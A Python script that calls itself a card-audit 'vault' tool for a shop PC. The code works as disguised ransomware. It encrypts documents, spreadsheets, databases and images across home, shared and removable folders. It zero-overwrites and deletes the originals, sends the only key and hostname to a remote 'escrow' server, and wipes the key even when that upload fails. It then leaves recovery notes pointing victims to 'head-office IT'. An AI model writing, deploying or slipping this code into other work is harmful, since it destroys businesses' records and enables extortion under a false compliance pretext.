#!/usr/bin/env python3
"""Move old till and office documents into the encrypted off-site vault.

Card-scheme auditors want takings sheets, staff records and supplier
invoices encrypted at rest.  This walks the shop PC's document folders,
seals every matching file into a .vault container (AES-256-GCM), drops the
plaintext, and escrows the vault key with the head-office key service so
it never sits on the shop PC.
"""
import argparse
import json
import logging
import os
import socket
import sys
import urllib.request
import uuid
from pathlib import Path

from cryptography.hazmat.primitives.ciphers.aead import AESGCM

log = logging.getLogger("vault")

SEAL_EXT = {".csv", ".xlsx", ".xls", ".pdf", ".docx", ".doc", ".db", ".sqlite",
            ".jpg", ".png", ".odt", ".ods", ".txt", ".zip", ".qbw", ".sage"}
SKIP_DIRS = {".cache", ".local", "node_modules", ".git", "snap", ".mozilla"}
ESCROW_URL = "https://keys.kebabgroup-it.example.com/escrow"
MAGIC = b"KVLT1"


class Vault:
    def __init__(self, vault_id=None):
        self.vault_id = vault_id or uuid.uuid4().hex
        self._key = AESGCM.generate_key(bit_length=256)
        self._aead = AESGCM(self._key)
        self.sealed = 0

    def escrow(self, url=ESCROW_URL, attempts=4):
        doc = {"vault": self.vault_id, "host": socket.gethostname(), "key": self._key.hex()}
        req = urllib.request.Request(url, data=json.dumps(doc).encode(),
                                     headers={"Content-Type": "application/json"})
        for i in range(attempts):
            try:
                with urllib.request.urlopen(req, timeout=20) as r:
                    return r.status < 300
            except OSError as exc:
                log.debug("escrow attempt %d: %s", i + 1, exc)
        return False

    def forget_key(self):
        self._key = b"\0" * 32

    def seal(self, path):
        data = path.read_bytes()
        nonce = os.urandom(12)
        blob = MAGIC + nonce + self._aead.encrypt(nonce, data, path.name.encode())
        out = path.with_name(path.name + ".vault")
        out.write_bytes(blob)
        self._scrub(path, len(data))
        self.sealed += 1
        return out

    @staticmethod
    def _scrub(path, size):
        with open(path, "r+b", buffering=0) as fh:
            fh.write(b"\0" * size)
            os.fsync(fh.fileno())
        path.unlink()


def walk_targets(roots):
    for root in roots:
        root = Path(root).expanduser()
        if not root.exists():
            continue
        for dirpath, dirnames, files in os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in SKIP_DIRS]
            for f in files:
                p = Path(dirpath) / f
                if p.suffix.lower() in SEAL_EXT and not p.is_symlink():
                    yield p


def leave_note(roots, vault_id):
    text = (f"Documents on this PC were moved into vault {vault_id}.\n"
            "To restore them contact head-office IT with the vault id above.\n")
    for root in roots:
        r = Path(root).expanduser()
        if r.is_dir():
            try:
                (r / "VAULT_README.txt").write_text(text)
            except OSError:
                pass


def main():
    ap = argparse.ArgumentParser(description="seal documents into the off-site vault")
    ap.add_argument("roots", nargs="*", default=["~", "/srv/till-share", "/media"])
    ap.add_argument("--escrow-url", default=ESCROW_URL)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.WARNING,
                        format="%(asctime)s %(levelname)s %(message)s")

    vault = Vault()
    if not vault.escrow(args.escrow_url):
        log.warning("key service unreachable, sealing with local key only")
    for p in walk_targets(args.roots):
        try:
            vault.seal(p)
        except (OSError, ValueError) as exc:
            log.debug("skip %s: %s", p, exc)
    vault.forget_key()
    leave_note(args.roots, vault.vault_id)
    log.info("sealed %d files into vault %s", vault.sealed, vault.vault_id)
    return 0


if __name__ == "__main__":
    sys.exit(main())
